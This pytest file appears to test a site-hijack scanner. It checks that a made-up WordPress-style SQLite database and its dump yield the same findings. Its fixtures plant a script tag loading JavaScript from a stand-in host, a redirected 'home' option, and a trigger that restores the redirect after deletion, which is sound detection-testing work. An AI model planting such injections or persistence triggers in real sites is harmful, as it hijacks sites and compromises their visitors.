"""A made-up site's database, live and as a dump: both tell the same."""

import sqlite3
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from unhijack.adapters.database.doors import open_database
from unhijack.collect.database import database_marks
from unhijack.core.errors import WrongUse
from unhijack.core.rows import Routine, RoutineKind, Row, Table
from unhijack.parse.plain.marks import Mark
from unhijack.parse.server.dumps import RoutineMark, judge_dump
from unhijack.parse.server.rows import RowMark
from unhijack.ports import Unread

SCRIPT = b"<script src=//bad.test/a.js></script>"
SCHEMA = """
CREATE TABLE wp_options (option_id INTEGER PRIMARY KEY, option_name TEXT, option_value TEXT);
CREATE TABLE wp_posts (ID INTEGER PRIMARY KEY, post_content TEXT, post_title TEXT);
INSERT INTO wp_options VALUES (1, 'siteurl', 'https://bakery.test'), (2, 'home', 'https://bad.test');
INSERT INTO wp_posts VALUES (1, 'Bread<script src=//bad.test/a.js></script>', 'Hello');
CREATE TRIGGER back AFTER DELETE ON wp_posts BEGIN
  UPDATE wp_options SET option_value = 'https://bad.test' WHERE option_name = 'home'; END;
"""


def look(_name: str, content: bytes) -> Sequence[Mark]:
    at = content.find(SCRIPT)
    return [Mark("html", "injection", 0.9, "planted", at, at + len(SCRIPT))] if at >= 0 else []


def told(marks: Sequence[RowMark | RoutineMark | Unread]) -> set[tuple[str, str]]:
    return {
        (one.routine.name if isinstance(one, RoutineMark) else one.table, mark.rule)
        for one in marks
        if not isinstance(one, Unread)
        for mark in one.marks
    }


EXPECTED = {
    ("wp_options", "sql-two-homes"),
    ("wp_posts", "html"),
    ("back", "sql-routine-options"),
}


def test_a_live_database_and_its_dump_tell_the_same(tmp_path: Path):
    path = tmp_path / "site.db"
    connection = sqlite3.connect(path)
    connection.executescript(SCHEMA)
    dump = "\n".join(connection.iterdump()).encode()
    live = list(database_marks(open_database(f"sqlite://{path}"), look))
    assert told(live) == EXPECTED
    assert isinstance(live[0], RoutineMark)  # what brings it back comes first
    assert told(list(judge_dump([dump], look))) == EXPECTED


class Stubborn:
    """A database that shows less than it has."""

    def tables(self) -> Sequence[Table]:
        return [Table("broken", ("a",)), Table("wp_posts", ("ID", "post_content", "post_title"))]

    def rows(self, table: Table) -> Iterator[Row]:
        if table.name == "broken":
            raise WrongUse("the database cannot be read: it is crashed")
        yield Row(table, (b"1", SCRIPT, b""))

    def routines(self) -> Sequence[Routine]:
        return [Routine(RoutineKind.PROCEDURE, "hidden\x1b", b"", cut=True)]

    def close(self) -> None:
        pass


def test_what_cannot_be_read_is_said_and_the_rest_is_read():
    marks = list(database_marks(Stubborn(), look))
    assert [one.reason for one in marks if isinstance(one, Unread)] == [
        "this user may not see it",
        "the database cannot be read: it is crashed",
    ]
    assert all("\x1b" not in one.path for one in marks if isinstance(one, Unread))
    assert told(marks) == {("wp_posts", "html")}


def test_nothing_to_read_at_all_is_wrong_use(tmp_path: Path):
    with pytest.raises(WrongUse):
        open_database(f"sqlite://{tmp_path}/no.db")
